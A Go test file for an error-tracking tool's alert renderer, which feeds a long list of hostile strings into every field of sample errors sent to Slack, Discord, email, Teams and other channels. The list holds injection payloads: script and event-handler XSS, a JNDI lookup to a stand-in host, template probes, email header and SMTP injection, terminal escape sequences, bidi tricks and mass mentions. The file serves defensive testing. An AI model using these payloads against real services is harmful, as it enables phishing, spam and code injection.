package render_test

import (
	"fmt"
	"strings"
	"time"

	"github.com/errata-log/errata/alerts"
)

// payloads are what somebody writes into an error to be read by a channel, a mail program
// or a terminal.
var payloads = []string{
	// mentions
	"@everyone", "@here", "@channel", "@all", "@ann", "ann@example.org", "<!channel>", "<!here>", "<!everyone>", "<@U0123ABCD>",
	"<#C0123ABCD|general>", "<!subteam^S0123|ops>", "<@123456789012345678>", "<@!123456789012345678>", "<@&987654321>", "<#555>",
	"<at>Ann</at>", "@room:example.org", "#general", "$USD", "/start@evil_bot", "/shrug", "~town-square", "+1-212-555-0123", ":tada:", "<:evil:123>",
	"<t:1700000000:R>", "</command:123>", "<!date^1392734382^x^https://evil.example/|x>", "tg://user?id=1",
	// links
	"https://evil.example/login", "http://evil.example", "HTTPS://EVIL.EXAMPLE/A", "www.evil.example", "evil.example/login", "evil.com", "<https://evil.example|Errata>",
	"[click](https://evil.example)", "![pic](https://evil.example/p.png)", "[a]: https://evil.example", "<https://evil.example>", "javascript:alert(1)",
	"[x](javascript:alert(1))", "mailto:ann@evil.example", "data:text/html,<script>1</script>", "ftp://evil.example/x", `\\evil\share\file`, "file:///etc/passwd",
	"steam://run/1", "discord.gg/evil", "//evil.example/x", "http://[::1]/", "https://user:pass@evil.example:8443/?q=1#f", "xn--80ak6aa92e.com",
	// Markdown
	"**bold** *i* _u_ __u__ ~~s~~ ~s~", "# heading", "> quote", ">>> quote", "- item\n- item", "1. item", "```\ncode\n```", "`code`", "``a`b``", "````", "`", "```", "\\`", "`\\", "a ``` [x](https://evil.example) ``` b",
	"` [x](https://evil.example) `", "||spoiler||", "| a | b |\n|---|---|\n| c | d |", "-# small", "***", "---", "$$x^2$$", "\\*", "^[note]", "&lt;!channel&gt;",
	// HTML
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"https://evil.example\">x</a>", "</p></td></table><h1>x", "<!--", "-->", "<b>", "</b>", "<![CDATA[", "&#60;script&#62;",
	"\"><svg onload=alert(1)>", "' onmouseover='x", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>", "</title><script>",
	"<tg-spoiler>x</tg-spoiler>", "<tg-emoji emoji-id=1>x</tg-emoji>", "<iframe src=//evil.example></iframe>", "<form action=//evil.example><input>",
	// templates, JSON, headers
	"{{.Secret}}", "{{template \"x\"}}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "%s%n%d", "{{7*7}}", "\",\"parse\":[\"everyone\"],\"x\":\"", "\"}]}", "\\u003c!channel\\u003e", "\\\"", "\\",
	"x\r\nBcc: eve@evil.example", "x\nContent-Type: text/html\n\n<b>", "=?utf-8?q?=3Cb=3E?=", "x\r\n.\r\nMAIL FROM:<eve@evil.example>", "--boundary--", "\r\n\r\n",
	// what cannot be seen
	"a\x00b", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\b\b\b", "a\u202Eexe.txt", "\u2066x\u2069", "@\u200Beveryone", "@every\u200Bone", "<\u200B!channel>", "h\u200Bttps://evil.example",
	"\u200E\u200F\u061C", "\uFEFFx", "\u00ADx", "\U000E0041\U000E0042", "a\u034Fb", "\u3164", "\u2028x\u2029y", "\u0085", "x\uFE0F\U000E0100", "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A", "\u202A\u202B\u202C\u202D",
	"\xff\xfe\xfd", "a\xc3", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xae", "\uFFFE", "\U0010FFFF", "\uE000", "שלום עולם", "مرحبا بالعالم", "日本語のエラー", "👩‍👩‍👧‍👦🏳️‍🌈", "ｅｖｉｌ．ｃｏｍ", "＠everyone", "evil。com", "",
	" ", "\t\n", "null", "true", "0",
}

// hostile are the events: each payload alone, in a sentence, in every field, and long.
func hostile() (all []alerts.Item) {
	for i, p := range payloads {
		alone := sample()
		alone.Text = p
		sentence := sample()
		sentence.Class, sentence.Text = p, "Could not read "+p+" of undefined, "+p
		everywhere := sample()
		everywhere.Class, everywhere.Text, everywhere.File, everywhere.Environment = p, p, p, p
		everywhere.Release, everywhere.Project, everywhere.Level, everywhere.Book, everywhere.EventID = p, p, p, p, p
		all = append(all, alone, sentence, everywhere)
		if i%3 == 0 {
			long := everywhere
			long.Text, long.File = strings.Repeat(p+" ", 3000), strings.Repeat(p, 500)
			all = append(all, long)
		}
	}
	return all
}

// sample is an ordinary error.
func sample() alerts.Item {
	return alerts.Item{
		Cause: alerts.CauseNew, Event: time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC), Book: "system", Signature: "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
		Count: 3, Users: 2, Project: "shop", Environment: "production", Release: "shop@1.4.2", Level: "error", Class: "TypeError",
		Text: "Cannot read properties of undefined (reading 'price')", File: "src/cart.js", Line: 12, FirstSeen: time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC),
		EventID: "4f1f3f0d0f9b4f6f8c6b2f5d1c0a9e8d", Link: "https://errata.example.com/errors/0f1e2d3c?book=system&from=alert", MuteLink: "https://errata.example.com/errors/0f1e2d3c/mute?book=system",
	}
}

// spiked is an error with which a project has a spike.
func spiked(item alerts.Item) alerts.Item {
	item.Cause, item.Events, item.Usual, item.Minutes = alerts.CauseSpike, 120, 12, 60
	return item
}

// quiet is a project that sends nothing.
func quiet() alerts.Item {
	return alerts.Item{
		Cause: alerts.CauseQuiet, Event: time.Date(2026, 3, 14, 9, 26, 0, 0, time.UTC), Project: "shop", Minutes: 90,
		Link: "https://errata.example.com/?project=shop",
	}
}

func messageOf(items ...alerts.Item) alerts.Message {
	return alerts.Message{
		ID: "msg_01", RuleID: "r1", RuleName: "checkout", At: time.Date(2026, 3, 14, 9, 27, 0, 0, time.UTC), Fired: uint64(len(items)), Items: items,
		RuleLink: "https://errata.example.com/alerts/rules/r1",
	}
}

// many are 47 firings of which ten are listed.
func many() alerts.Message {
	var items []alerts.Item
	for i := range alerts.MaxItems {
		item := sample()
		item.Cause = []alerts.Cause{alerts.CauseNew, alerts.CauseRegressed, alerts.CauseReached, alerts.CauseFrequency}[i%4]
		switch i {
		case 4:
			item = spiked(item)
		case 5:
			items = append(items, quiet())
			continue
		}
		item.Count, item.Text, item.Line = uint64(i*i+1), fmt.Sprintf("Stock of article %d is negative", i), uint32(10+i)
		items = append(items, item)
	}
	m := messageOf(items...)
	m.Fired = 47
	return m
}

const signingSecret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"

// channels are one of each kind.
var channels = []alerts.Channel{
	{ID: "c1", Name: "Receiver", Kind: alerts.Webhook, URL: "https://hooks.example.com/errata", Secret: signingSecret},
	{ID: "c2", Name: "On call", Kind: alerts.Email, Addresses: []string{"oncall@example.com", "ann@example.org"}},
	{ID: "c3", Name: "Ops", Kind: alerts.Slack, URL: "https://hooks.slack.example/services/T000/B000/XXXX"},
	{ID: "c4", Name: "Ops", Kind: alerts.Discord, URL: "https://discord.example/api/webhooks/1/secret"},
	{ID: "c5", Name: "Ops", Kind: alerts.Teams, URL: "https://flow.example/workflows/1?sig=secret"},
	{ID: "c6", Name: "Ops", Kind: alerts.Mattermost, URL: "https://chat.example/hooks/secret"},
	{ID: "c7", Name: "Ops", Kind: alerts.Telegram, URL: "https://api.telegram.org", Secret: "123456:secret", Chat: "-1001234567890"},
	{ID: "c8", Name: "Ops", Kind: alerts.Ntfy, URL: "https://ntfy.example/errors-x7", Secret: "tk_secret"},
}
